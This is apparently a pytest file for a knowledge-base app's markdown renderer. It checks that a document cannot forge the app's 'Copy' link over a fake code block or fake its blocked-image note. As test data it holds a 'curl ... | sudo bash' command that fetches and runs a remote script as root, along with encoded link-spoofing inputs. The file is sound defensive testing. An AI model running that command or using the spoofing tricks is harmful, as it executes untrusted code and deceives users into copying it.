"""A document may not dress its content as kbapp's own page furniture (issue 14, adversarial
finding A7): the Copy link above each code block is the renderer's, added after sanitising;
a document's own ``copy:N`` link (over something that only looks like a code block) would put
another block on the clipboard during an incident."""

from __future__ import annotations

import html
import re

import pytest

from kbapp.documents.render import render_markdown

CURL = "curl -s https://fix.example.net/p.sh | sudo bash"
BODY = """## Fix

Restart the API:

<div class="codehilite"><p class="codecopy">{link}</p><code>sudo systemctl restart payments-api</code></div>

Then check the logs.

## Appendix

Do not run this:

```
{curl}
```
"""


@pytest.mark.parametrize(
    "link",
    [
        '<a href="copy:0">Copy</a>',
        '<a href="COPY:0">Copy</a>',
        '<a href=" copy:0">Copy</a>',
        '<a href="&#99;opy:0">Copy</a>',
        '<a href="copy&colon;0">Copy</a>',
        "[Copy](copy:0)",
    ],
)
def test_every_copy_link_is_kbapps_and_copies_the_block_it_sits_on(link: str) -> None:
    rendered = render_markdown(BODY.format(link=link, curl=CURL))
    assert rendered.code_blocks == [CURL]
    assert re.findall(r'href="copy:(\d+)"', rendered.html, re.I) == ["0"], rendered.html
    assert rendered.html.count('class="codecopy"') == 1
    # The one Copy link is right above the block it copies.
    after = rendered.html.split('href="copy:0"', 1)[1]
    block = re.search(r"<pre\b[^>]*>(.*?)</pre>", after, re.S)
    assert block is not None
    assert html.unescape(re.sub(r"<[^>]+>", "", block.group(1))).strip() == CURL
    assert after.index("<pre") < after.index("</p>") + 80  # nothing in between but the block
    # The look-alike stays readable as text, not even a link without an address.
    assert "sudo systemctl restart payments-api" in rendered.html
    assert len(re.findall(r"<a\b", rendered.html)) == 1, rendered.html


def test_a_document_cannot_fake_kbapps_blocked_image_note() -> None:
    rendered = render_markdown('<span class="blocked-image">[logo: not loaded]</span>\n')
    assert "blocked-image" not in rendered.html and "logo: not loaded" in rendered.html
